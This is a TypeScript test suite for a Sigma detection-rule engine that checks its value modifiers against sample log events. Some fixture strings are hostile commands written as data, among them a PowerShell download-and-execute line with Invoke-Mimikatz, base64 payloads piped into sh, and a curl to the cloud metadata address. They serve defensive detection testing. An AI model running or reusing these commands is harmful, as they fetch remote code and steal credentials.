/**
 * Value modifiers, from the Sigma modifiers appendix (v2.1.0) and the rules
 * specification ("Value Modifiers", "Field Existence", "Placeholders").
 * Every match is checked through both the prefilter index and the naive
 * evaluation (see test-helpers.ts).
 */
import { errorCodesOf, load, matcher, problemsOf, ruleDoc } from './test-helpers';

const rule = (detection: string): string => ruleDoc(detection);

describe('generic modifiers', () => {
  it('contains: "Puts * wildcards around the values, such that the value is matched anywhere in the field"', () => {
    const m = matcher(`
      selection:
        CommandLine|contains: 'nsenter'
      condition: selection
    `);
    expect(m({ CommandLine: 'nsenter' })).toBe(true);
    expect(m({ CommandLine: 'sh -c "NSENTER -t 1 -m"' })).toBe(true);
    expect(m({ CommandLine: 'nsente' })).toBe(false);
    expect(m({ Other: 'nsenter' })).toBe(false);
  });

  it('startswith: "The value is expected at the beginning of the field\'s content"', () => {
    const m = matcher(`
      selection:
        Image|startswith: '/usr/bin/'
      condition: selection
    `);
    expect(m({ Image: '/usr/bin/curl' })).toBe(true);
    expect(m({ Image: '/USR/BIN/curl' })).toBe(true);
    expect(m({ Image: '/tmp/usr/bin/curl' })).toBe(false);
  });

  it('endswith: "The value is expected at the end of the field\'s content"', () => {
    const m = matcher(`
      selection:
        Image|endswith: '\\cmd.exe'
      condition: selection
    `);
    expect(m({ Image: 'C:\\Windows\\System32\\cmd.exe' })).toBe(true);
    expect(m({ Image: 'C:\\Windows\\System32\\CMD.EXE' })).toBe(true);
    expect(m({ Image: 'C:\\Windows\\System32\\cmd.exe.bak' })).toBe(false);
    expect(m({ Image: 'xcmd.exe' })).toBe(false);
  });

  it('all: "lists of values are linked with OR ... This modifier changes this to AND"', () => {
    const m = matcher(`
      selection:
        CommandLine|contains|all:
          - '--privileged'
          - '--pid=host'
      condition: selection
    `);
    expect(m({ CommandLine: 'docker run --privileged --pid=host alpine' })).toBe(true);
    expect(m({ CommandLine: 'docker run --pid=host --privileged alpine' })).toBe(true);
    expect(m({ CommandLine: 'docker run --privileged alpine' })).toBe(false);
    expect(m({ CommandLine: 'docker run --pid=host alpine' })).toBe(false);
    // without `all` the same list is an OR
    const or = matcher(`
      selection:
        CommandLine|contains:
          - '--privileged'
          - '--pid=host'
      condition: selection
    `);
    expect(or({ CommandLine: 'docker run --privileged alpine' })).toBe(true);
  });

  it('all: "Single item values are not allowed to have an all modifier" (a warning, the rule still loads)', () => {
    const text = rule(`
      selection:
        CommandLine|contains|all: 'nsenter'
      condition: selection
    `);
    const res = load(text);
    const p = res.problems.find((x) => x.code === 'MODIFIER_INVALID');
    expect(p).toBeDefined();
    expect(p?.severity).toBe('warning');
    expect(p?.location?.line).toBe(6); // the line of `CommandLine|contains|all`
    expect(res.rules).toHaveLength(1);
  });

  it('exists: true — "a certain field has to exist", whatever its value, even empty or null', () => {
    const m = matcher(`
      selection:
        PasswordLastSet|exists: true
      condition: selection
    `);
    expect(m({ PasswordLastSet: '2024-01-01' })).toBe(true);
    expect(m({ PasswordLastSet: '' })).toBe(true);
    // "this check only verifies the presence of a field, not its value, be it empty or null"
    expect(m({ PasswordLastSet: null })).toBe(true);
    expect(m({ Other: 'x' })).toBe(false);
    expect(m({})).toBe(false);
  });

  it('exists: false — the field "must not exist" (a null value is present, so it does not match)', () => {
    const m = matcher(`
      selection:
        EventID: 4738
        PasswordLastSet|exists: false
      condition: selection
    `);
    expect(m({ EventID: 4738 })).toBe(true);
    expect(m({ EventID: 4738, PasswordLastSet: null })).toBe(false);
    expect(m({ EventID: 4738, PasswordLastSet: 'x' })).toBe(false);
  });

  it('exists on a nested field: present inside an object, absent when the parent is missing or null', () => {
    const m = matcher(`
      selection:
        HostConfig.Privileged|exists: true
      condition: selection
    `);
    expect(m({ HostConfig: { Privileged: false } })).toBe(true);
    expect(m({ HostConfig: {} })).toBe(false);
    expect(m({ HostConfig: null })).toBe(false);
  });

  it('exists takes "a boolean value": a string is rejected', () => {
    expect(
      errorCodesOf(
        rule(`
          selection:
            Field|exists: 'yes'
          condition: selection
        `),
      ),
    ).toEqual(['VALUE_INVALID']);
  });

  it('cased: "Values are applied case sensitively. Default Sigma behavior is case-insensitive matching"', () => {
    const cased = matcher(`
      selection:
        Image|cased: 'Evil.EXE'
      condition: selection
    `);
    expect(cased({ Image: 'Evil.EXE' })).toBe(true);
    expect(cased({ Image: 'evil.exe' })).toBe(false);
    const plain = matcher(`
      selection:
        Image: 'Evil.EXE'
      condition: selection
    `);
    expect(plain({ Image: 'evil.exe' })).toBe(true);
    const casedContains = matcher(`
      selection:
        CommandLine|contains|cased: 'Invoke-'
      condition: selection
    `);
    expect(casedContains({ CommandLine: 'x Invoke-Expression' })).toBe(true);
    expect(casedContains({ CommandLine: 'x invoke-expression' })).toBe(false);
  });

  it('neq: "The field is different from the specified values" (the field exists and equals none of them)', () => {
    const m = matcher(`
      selection:
        User|neq:
          - root
          - admin
      condition: selection
    `);
    expect(m({ User: 'mallory' })).toBe(true);
    expect(m({ User: 'root' })).toBe(false);
    expect(m({ User: 'ADMIN' })).toBe(false); // case-insensitive like every comparison
    expect(m({})).toBe(false); // a missing field is not "different"
  });

  it('neq on a number: "Field is not equal than the value"', () => {
    const m = matcher(`
      selection:
        Port|neq: 2375
      condition: selection
    `);
    expect(m({ Port: 2376 })).toBe(true);
    expect(m({ Port: 2375 })).toBe(false);
    expect(m({ Port: '2375' })).toBe(false);
  });
});

describe('string modifiers', () => {
  it('windash: "permutations of the -, /, – (en dash), — (em dash), and ― (horizontal bar) characters"', () => {
    const m = matcher(`
      selection:
        CommandLine|windash|contains: ' -enc '
      condition: selection
    `);
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015'])
      expect({ dash, hit: m({ CommandLine: `powershell ${dash}enc ZQBjAGgAbwA=` }) }).toEqual({ dash, hit: true });
    expect(m({ CommandLine: 'powershell +enc ZQBjAGgAbwA=' })).toBe(false);
    expect(m({ CommandLine: 'powershell enc ZQBjAGgAbwA=' })).toBe(false);
  });

  it('windash: every dash of the value varies independently ("all possible permutation of strings")', () => {
    const m = matcher(`
      selection:
        CommandLine|contains|windash: '/s /q'
      condition: selection
    `);
    expect(m({ CommandLine: 'rd -s \u2014q C:\\x' })).toBe(true);
    expect(m({ CommandLine: 'rd \u2015s /q C:\\x' })).toBe(true);
    expect(m({ CommandLine: 'rd -s q C:\\x' })).toBe(false);
  });

  it('windash applies to strings only', () => {
    expect(
      errorCodesOf(
        rule(`
          selection:
            Field|windash: 5
          condition: selection
        `),
      ),
    ).toEqual(['MODIFIER_INVALID']);
  });

  it('re: "Regex is matched case-sensitive by default"', () => {
    const m = matcher(`
      selection:
        Image|re: '/(bash|sh)$'
      condition: selection
    `);
    expect(m({ Image: '/bin/bash' })).toBe(true);
    expect(m({ Image: '/bin/sh' })).toBe(true);
    expect(m({ Image: '/bin/BASH' })).toBe(false);
    expect(m({ Image: '/bin/bash2' })).toBe(false);
  });

  it('re|i: "(insensitive) to enable case-insensitive matching"', () => {
    const m = matcher(`
      selection:
        Image|re|i: '/(bash|sh)$'
      condition: selection
    `);
    expect(m({ Image: '/bin/BASH' })).toBe(true);
    expect(m({ Image: '/bin/Sh' })).toBe(true);
    expect(m({ Image: '/bin/zsh2' })).toBe(false);
    const cls = matcher(`
      selection:
        Name|re|i: '^[a-c]+[0-9]$'
      condition: selection
    `);
    expect(cls({ Name: 'AbC7' })).toBe(true);
    expect(cls({ Name: 'AbD7' })).toBe(false);
  });

  it('re|m: "(multi line) ... ^ /$ match the start/end of line"', () => {
    const text = 'first line\nroot:x:0:0\nlast line';
    const multi = matcher(`
      selection:
        Content|re|m: '^root:'
      condition: selection
    `);
    const single = matcher(`
      selection:
        Content|re: '^root:'
      condition: selection
    `);
    expect(multi({ Content: text })).toBe(true);
    expect(single({ Content: text })).toBe(false);
  });

  it('re|s: "(single line) to enable that dot (.) matches all characters, including the newline character"', () => {
    const text = 'BEGIN\npayload\nEND';
    const dotall = matcher(`
      selection:
        Content|re|s: 'BEGIN.*END'
      condition: selection
    `);
    const plain = matcher(`
      selection:
        Content|re: 'BEGIN.*END'
      condition: selection
    `);
    expect(dotall({ Content: text })).toBe(true);
    expect(plain({ Content: text })).toBe(false);
  });

  it('re sub-modifiers i/m/s without re are rejected', () => {
    expect(
      errorCodesOf(
        rule(`
          selection:
            Field|i: 'x'
          condition: selection
        `),
      ),
    ).toEqual(['MODIFIER_INVALID']);
  });

  it('re supports the listed metacharacters: . ^ $ * + ? {n,m} [a-z] [^a-z] | ()', () => {
    const m = matcher(`
      selection:
        Path|re: '^/(proc|sys)/[0-9]+/[^/]{2,4}.?x*$'
      condition: selection
    `);
    expect(m({ Path: '/proc/1/root' })).toBe(true);
    expect(m({ Path: '/sys/42/envi' })).toBe(true);
    expect(m({ Path: '/etc/1/root' })).toBe(false);
  });
});

describe('encoding modifiers', () => {
  const b64 = (s: string, enc: BufferEncoding = 'utf8'): string => Buffer.from(s, enc).toString('base64');

  it('base64: "The value is encoded with Base64" (whole field, and with contains)', () => {
    const whole = matcher(`
      selection:
        Data|base64: 'curl http://evil'
      condition: selection
    `);
    expect(whole({ Data: b64('curl http://evil') })).toBe(true);
    expect(whole({ Data: 'curl http://evil' })).toBe(false);
    const inside = matcher(`
      selection:
        CommandLine|base64|contains: 'evil'
      condition: selection
    `);
    expect(inside({ CommandLine: `echo ${b64('evil')} | base64 -d | sh` })).toBe(true);
  });

  it('base64offset: "three variants for shifts by zero to two bytes" — a value found at any offset of a longer text', () => {
    const m = matcher(`
      selection:
        CommandLine|base64offset|contains: 'http://169.254.169.254/latest'
      condition: selection
    `);
    const needle = 'http://169.254.169.254/latest';
    // prefixes of 0..5 bytes cover each of the three shifts twice; suffixes vary the tail
    for (let pre = 0; pre <= 5; pre++)
      for (let post = 0; post <= 3; post++) {
        const text = 'curl -s '.slice(0, pre) + needle + '/meta'.slice(0, post);
        const event = { CommandLine: `sh -c "echo ${b64(text)} | base64 -d | sh"` };
        expect({ pre, post, hit: m(event) }).toEqual({ pre, post, hit: true });
      }
    expect(m({ CommandLine: `echo ${b64('curl -s http://169.254.169.253/latest')}` })).toBe(false);
    expect(m({ CommandLine: needle })).toBe(false);
  });

  it('base64offset: the three shifts yield three different encodings, each one needed', () => {
    // A value that only matches at shift k must be found; checking k = 0, 1, 2 separately
    const m = matcher(`
      selection:
        Data|base64offset|contains: 'docker.sock'
      condition: selection
    `);
    const hits = [0, 1, 2].map((k) => m({ Data: b64('x'.repeat(k) + 'docker.sock') }));
    expect(hits).toEqual([true, true, true]);
    const encodings = [0, 1, 2].map((k) => b64('x'.repeat(k) + 'docker.sock'));
    expect(new Set(encodings).size).toBe(3);
  });

  it('base64offset of a value too short to have a static middle part never matches every event', () => {
    // "except the first and last byte the encoded values have a static part in the middle":
    // a one-byte value has none, so it must be rejected or at least not match unrelated data.
    const text = rule(`
      selection:
        Data|base64offset|contains: 'a'
      condition: selection
    `);
    const res = load(text);
    if (res.rules.length === 1) {
      const m = matcher(`
        selection:
          Data|base64offset|contains: 'a'
        condition: selection
      `);
      expect(m({ Data: 'zzzzzzzz' })).toBe(false);
    } else {
      expect(res.problems.length).toBeGreaterThan(0);
    }
  });

  it('utf16le / wide: "cmd > 63 00 6d 00 64 00"', () => {
    for (const mod of ['utf16le', 'wide']) {
      const m = matcher(`
        selection:
          Data|${mod}: 'cmd'
        condition: selection
      `);
      expect(m({ Data: 'c\u0000m\u0000d\u0000' })).toBe(true);
      expect(m({ Data: 'cmd' })).toBe(false);
    }
  });

  it('utf16be: "cmd > 00 63 00 6d 00 64"; utf16: "cmd > FF FE 63 00 6d 00 64 00"', () => {
    const be = matcher(`
      selection:
        Data|utf16be: 'cmd'
      condition: selection
    `);
    expect(be({ Data: '\u0000c\u0000m\u0000d' })).toBe(true);
    const bom = matcher(`
      selection:
        Data|utf16: 'cmd'
      condition: selection
    `);
    expect(bom({ Data: '\u00ff\u00fec\u0000m\u0000d\u0000' })).toBe(true);
    expect(bom({ Data: 'c\u0000m\u0000d\u0000' })).toBe(false);
  });

  it('wide|base64offset|contains finds a PowerShell -EncodedCommand payload at any character offset', () => {
    const m = matcher(`
      selection:
        CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'
      condition: selection
    `);
    const scripts = [
      'Invoke-Mimikatz -DumpCreds',
      'IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1"); Invoke-Mimikatz',
      ';Invoke-Mimikatz',
      'ab Invoke-Mimikatz;exit',
      '$a=1;Invoke-Mimikatz',
    ];
    for (const s of scripts) {
      const enc = b64(s, 'utf16le');
      expect({ s, hit: m({ CommandLine: `powershell.exe -NoP -EncodedCommand ${enc}` }) }).toEqual({ s, hit: true });
    }
    // the same text base64-encoded as UTF-8 is not a UTF-16 payload
    expect(m({ CommandLine: `powershell.exe -enc ${b64('Invoke-Mimikatz -DumpCreds')}` })).toBe(false);
    expect(m({ CommandLine: `powershell.exe -enc ${b64('Get-Process', 'utf16le')}` })).toBe(false);
  });

  it('utf16be|base64offset|contains and utf16|base64offset|contains', () => {
    const be = matcher(`
      selection:
        Data|utf16be|base64offset|contains: 'whoami'
      condition: selection
    `);
    for (const s of ['whoami /all', 'x whoami', 'xy whoami']) {
      const enc = Buffer.from(s, 'utf16le').swap16().toString('base64');
      expect({ s, hit: be({ Data: enc }) }).toEqual({ s, hit: true });
    }
    expect(be({ Data: b64('whoami /all', 'utf16le') })).toBe(false);

    const bom = matcher(`
      selection:
        Data|utf16|base64offset|contains: 'whoami'
      condition: selection
    `);
    const withBom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('whoami /all', 'utf16le')]).toString(
      'base64',
    );
    expect(bom({ Data: withBom })).toBe(true);
  });

  it('encoding modifiers cannot encode a wildcard: base64 of a value with * is MODIFIER_INVALID', () => {
    expect(
      errorCodesOf(
        rule(`
          selection:
            Data|base64: 'evil*'
          condition: selection
        `),
      ),
    ).toEqual(['MODIFIER_INVALID']);
    // contains before base64 puts wildcards into the value that base64 would have to encode
    expect(
      errorCodesOf(
        rule(`
          selection:
            Data|contains|base64: 'evil'
          condition: selection
        `),
      ),
    ).toEqual(['MODIFIER_INVALID']);
  });

  it('an escaped wildcard is plain text and can be encoded', () => {
    const m = matcher(`
      selection:
        Data|base64: 'a\\*b'
      condition: selection
    `);
    expect(m({ Data: b64('a*b') })).toBe(true);
  });
});

describe('numeric modifiers', () => {
  const cases: Array<[string, number, Record<number, boolean>]> = [
    ['lt', 1024, { 1023: true, 1024: false, 1025: false }],
    ['lte', 1024, { 1023: true, 1024: true, 1025: false }],
    ['gt', 1024, { 1023: false, 1024: false, 1025: true }],
    ['gte', 1024, { 1023: false, 1024: true, 1025: true }],
  ];
  for (const [mod, bound, expected] of cases) {
    it(`${mod}: "Field is ${mod === 'lt' ? 'less than' : mod === 'lte' ? 'less or equal than' : mod === 'gt' ? 'greater than' : 'greater or equal than'} the value" — numbers and numeric strings`, () => {
      const m = matcher(`
        selection:
          Port|${mod}: ${bound}
        condition: selection
      `);
      for (const [v, want] of Object.entries(expected)) {
        expect({ v, n: m({ Port: Number(v) }) }).toEqual({ v, n: want });
        expect({ v, s: m({ Port: v }) }).toEqual({ v, s: want });
      }
      expect(m({ Port: 'high' })).toBe(false);
      expect(m({ Port: '' })).toBe(false);
      expect(m({})).toBe(false);
    });
  }

  it('numeric comparison is numeric, not lexicographic, and takes decimals and negative numbers', () => {
    const m = matcher(`
      selection:
        Size|gt: '9'
      condition: selection
    `);
    expect(m({ Size: 10 })).toBe(true); // "10" < "9" as strings
    expect(m({ Size: '9.5' })).toBe(true);
    expect(m({ Size: 8.99 })).toBe(false);
    const neg = matcher(`
      selection:
        Delta|lt: 0
      condition: selection
    `);
    expect(neg({ Delta: -1 })).toBe(true);
    expect(neg({ Delta: 0 })).toBe(false);
  });

  it('numeric modifiers "can only be applied to numeric values": a non-numeric value is rejected', () => {
    expect(
      errorCodesOf(
        rule(`
          selection:
            Port|gt: 'many'
          condition: selection
        `),
      ),
    ).toEqual(['VALUE_INVALID']);
    expect(
      errorCodesOf(
        rule(`
          selection:
            Port|gt|contains: 5
          condition: selection
        `),
      ),
    ).toEqual(['MODIFIER_INVALID']);
  });
});

describe('time modifiers ("extracts a numeric value from a date")', () => {
  const at = { Time: '2024-05-06T03:15:42Z' }; // a Monday, ISO week 19
  const parts: Array<[string, number, number]> = [
    ['minute', 15, 16],
    ['hour', 3, 4],
    ['day', 6, 7],
    ['week', 19, 20],
    ['month', 5, 6],
    ['year', 2024, 2023],
  ];
  for (const [mod, right, wrong] of parts) {
    it(`${mod}: ${right} from an ISO timestamp`, () => {
      const yes = matcher(`
        selection:
          Time|${mod}: ${right}
        condition: selection
      `);
      const no = matcher(`
        selection:
          Time|${mod}: ${wrong}
        condition: selection
      `);
      expect(yes(at)).toBe(true);
      expect(no(at)).toBe(false);
      expect(yes({ Time: 'not a date' })).toBe(false);
      expect(yes({})).toBe(false);
    });
  }

  it('a time part combines with a numeric comparison: hour|gte 22 or hour|lt 6 (night activity)', () => {
    const m = matcher(`
      late:
        Time|hour|gte: 22
      early:
        Time|hour|lt: 6
      condition: late or early
    `);
    expect(m({ Time: '2024-05-06T23:01:00Z' })).toBe(true);
    expect(m({ Time: '2024-05-06T05:59:59Z' })).toBe(true);
    expect(m({ Time: '2024-05-06T12:00:00Z' })).toBe(false);
  });

  it('only one time modifier per value', () => {
    expect(
      errorCodesOf(
        rule(`
          selection:
            Time|hour|minute: 3
          condition: selection
        `),
      ),
    ).toEqual(['MODIFIER_INVALID']);
  });
});

describe('cidr: "Supports both IPv4 and IPv6 notations"', () => {
  it('IPv4 networks', () => {
    const m = matcher(`
      selection:
        DestinationIp|cidr:
          - '10.0.0.0/8'
          - '192.168.0.0/16'
      condition: selection
    `);
    expect(m({ DestinationIp: '10.255.0.1' })).toBe(true);
    expect(m({ DestinationIp: '192.168.3.4' })).toBe(true);
    expect(m({ DestinationIp: '11.0.0.1' })).toBe(false);
    expect(m({ DestinationIp: '192.169.0.1' })).toBe(false);
    expect(m({ DestinationIp: 'not-an-ip' })).toBe(false);
    expect(m({ DestinationIp: '10.0.0.256' })).toBe(false);
  });

  it('IPv6 networks', () => {
    const m = matcher(`
      selection:
        DestinationIp|cidr: 'fd00::/8'
      condition: selection
    `);
    expect(m({ DestinationIp: 'fd12:3456:789a::1' })).toBe(true);
    expect(m({ DestinationIp: 'FD00::1' })).toBe(true);
    expect(m({ DestinationIp: 'fe80::1' })).toBe(false);
    expect(m({ DestinationIp: '10.0.0.1' })).toBe(false);
  });

  it('a prefix that is not a multiple of 8 masks the partial byte', () => {
    const m = matcher(`
      selection:
        Ip|cidr: '172.16.0.0/12'
      condition: selection
    `);
    expect(m({ Ip: '172.31.255.255' })).toBe(true);
    expect(m({ Ip: '172.32.0.0' })).toBe(false);
    expect(m({ Ip: '172.15.255.255' })).toBe(false);
  });

  it('an IPv4-mapped IPv6 client address (::ffff:10.1.2.3) matches 10.0.0.0/8', () => {
    const m = matcher(`
      selection:
        ClientAddress|cidr: '10.0.0.0/8'
      condition: selection
    `);
    expect(m({ ClientAddress: '::ffff:10.1.2.3' })).toBe(true);
    expect(m({ ClientAddress: '::ffff:11.1.2.3' })).toBe(false);
  });

  it('an invalid network is rejected with CIDR_INVALID', () => {
    for (const bad of ['10.0.0.0/33', '10.0.0/8', 'fd00::/129', 'example.com'])
      expect({
        bad,
        codes: errorCodesOf(
          rule(`
            selection:
              Ip|cidr: '${bad}'
            condition: selection
          `),
        ),
      }).toEqual({ bad, codes: ['CIDR_INVALID'] });
  });
});

describe('expand and placeholders', () => {
  const placeholders = new Map<string, string[]>([
    ['Administrators', ['root', 'adm_*']],
    ['Servers', ['srv*']],
    ['tools', ['mimikatz']],
  ]);

  it('"field|expand: %name% handles %name% as placeholder" — replaced by OR-linked values or patterns', () => {
    const m = matcher(
      `
      selection:
        User|expand: '%Administrators%'
      condition: selection
    `,
      { placeholders },
    );
    expect(m({ User: 'root' })).toBe(true);
    expect(m({ User: 'adm_bob' })).toBe(true); // a placeholder value may be a pattern
    expect(m({ User: 'bob' })).toBe(false);
  });

  it('a placeholder inside a longer value is expanded in place', () => {
    const m = matcher(
      `
      selection:
        Host|expand: '%Servers%.corp.example'
      condition: selection
    `,
      { placeholders },
    );
    expect(m({ Host: 'srv-web-01.corp.example' })).toBe(true);
    expect(m({ Host: 'ws-01.corp.example' })).toBe(false);
  });

  it('"field: %name% handles %name% as literal value" (no expand)', () => {
    const m = matcher(
      `
      selection:
        User: '%Administrators%'
      condition: selection
    `,
      { placeholders },
    );
    expect(m({ User: '%Administrators%' })).toBe(true);
    expect(m({ User: 'root' })).toBe(false);
  });

  it('"field|expand: \\%plain%name% handles %plain as plain value and %name% as placeholder"', () => {
    const m = matcher(
      `
      selection:
        Value|expand: '\\%plain%tools%'
      condition: selection
    `,
      { placeholders },
    );
    expect(m({ Value: '%plainmimikatz' })).toBe(true);
    expect(m({ Value: '\\%plainmimikatz' })).toBe(false);
  });

  it('"If the tool isn\'t able to handle placeholders, it must reject the rule": PLACEHOLDER_UNDEFINED', () => {
    const text = rule(`
      selection:
        User|expand: '%Nobody%'
      condition: selection
    `);
    const res = load(text, { placeholders });
    expect(res.problems.map((p) => p.code)).toEqual(['PLACEHOLDER_UNDEFINED']);
    expect(res.problems[0]?.location?.line).toBe(6);
    expect(res.rules).toHaveLength(0);
  });

  it('"modifiers are applied in the given order": contains then expand keeps the contains wildcards', () => {
    const m = matcher(
      `
      selection:
        CommandLine|contains|expand: '%tools%'
      condition: selection
    `,
      { placeholders },
    );
    expect(m({ CommandLine: 'run mimikatz now' })).toBe(true);
  });

  it('expand then contains', () => {
    const m = matcher(
      `
      selection:
        CommandLine|expand|contains: '%tools%'
      condition: selection
    `,
      { placeholders },
    );
    expect(m({ CommandLine: 'run mimikatz now' })).toBe(true);
    expect(m({ CommandLine: 'run procdump now' })).toBe(false);
  });
});

describe('fieldref: "compare fields of matched events directly at query/matching time"', () => {
  it('equal fields match (case-insensitively by default)', () => {
    const m = matcher(`
      selection:
        TargetUser|fieldref: SubjectUser
      condition: selection
    `);
    expect(m({ TargetUser: 'alice', SubjectUser: 'alice' })).toBe(true);
    expect(m({ TargetUser: 'Alice', SubjectUser: 'ALICE' })).toBe(true);
    expect(m({ TargetUser: 'alice', SubjectUser: 'bob' })).toBe(false);
    expect(m({ TargetUser: 'alice' })).toBe(false);
  });

  it('fieldref|cased compares case-sensitively', () => {
    const m = matcher(`
      selection:
        TargetUser|fieldref|cased: SubjectUser
      condition: selection
    `);
    expect(m({ TargetUser: 'alice', SubjectUser: 'alice' })).toBe(true);
    expect(m({ TargetUser: 'Alice', SubjectUser: 'alice' })).toBe(false);
  });

  it('"Can be combined with the neq modifier": the fields differ', () => {
    const m = matcher(`
      selection:
        TargetUser|fieldref|neq: SubjectUser
      condition: selection
    `);
    expect(m({ TargetUser: 'alice', SubjectUser: 'bob' })).toBe(true);
    expect(m({ TargetUser: 'alice', SubjectUser: 'ALICE' })).toBe(false);
  });

  it('fieldref works on nested fields and numbers', () => {
    const m = matcher(`
      selection:
        Config.User|fieldref: Process.Uid
      condition: selection
    `);
    expect(m({ Config: { User: 0 }, Process: { Uid: '0' } })).toBe(true);
    expect(m({ Config: { User: 0 }, Process: { Uid: 1000 } })).toBe(false);
  });
});

describe('modifier errors', () => {
  it('an unknown modifier is MODIFIER_UNKNOWN, located at its key', () => {
    const res = load(
      rule(`
        selection:
          Image|endswith: 'x'
          Image|sartswith: 'y'
        condition: selection
      `),
    );
    expect(res.problems.map((p) => p.code)).toEqual(['MODIFIER_UNKNOWN']);
    expect(res.problems[0]?.location).toMatchObject({ line: 7, column: 5 });
    expect(res.rules).toHaveLength(0);
  });

  const invalid: Array<[string, string]> = [
    ['re with cidr', `Ip|re|cidr: '10.0.0.0/8'`],
    ['fieldref with re', `A|fieldref|re: B`],
    ['lt with cidr', `A|lt|cidr: 5`],
    ['exists with contains', `A|exists|contains: true`],
    ['a modifier given twice', `A|contains|contains: x`],
    ['startswith with re', `A|startswith|re: 'x'`],
    ['base64 of a wildcard', `A|base64: 'a?c'`],
    ['time part with a string modifier', `Time|hour|contains: 3`],
  ];
  for (const [what, item] of invalid)
    it(`an invalid combination is MODIFIER_INVALID: ${what}`, () => {
      const res = load(rule(`selection:\n  ${item}\ncondition: selection`));
      expect(errorCodesOf(rule(`selection:\n  ${item}\ncondition: selection`))).toEqual(['MODIFIER_INVALID']);
      expect(res.problems.find((p) => p.code === 'MODIFIER_INVALID')?.location?.line).toBe(6);
      expect(res.rules).toHaveLength(0);
    });

  it('an invalid regular expression is REGEX_INVALID and the rule is not loaded', () => {
    expect(problemsOf(rule(`selection:\n  A|re: '(unclosed'\ncondition: selection`))).toEqual(['REGEX_INVALID']);
  });
});
